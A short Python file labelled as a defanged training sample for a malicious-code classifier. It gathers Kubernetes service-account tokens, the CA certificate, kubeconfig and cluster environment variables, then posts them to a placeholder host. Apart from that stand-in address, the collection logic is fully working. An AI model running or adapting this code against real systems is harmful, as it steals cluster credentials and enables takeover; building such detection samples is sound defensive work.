# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, requests, socket

SA = "/var/run/secrets/kubernetes.io/serviceaccount"
out = {"host": socket.gethostname()}
for name in ("token", "namespace", "ca.crt"):
    try:
        out[name] = open(os.path.join(SA, name)).read()
    except OSError:
        pass
kc = os.path.expanduser("~/.kube/config")
if os.path.isfile(kc):
    out["kubeconfig"] = open(kc).read()
out["env"] = {k: v for k, v in os.environ.items() if "KUBERNETES" in k}
requests.post("https://collect.example.invalid/k8s", json=out, timeout=5)
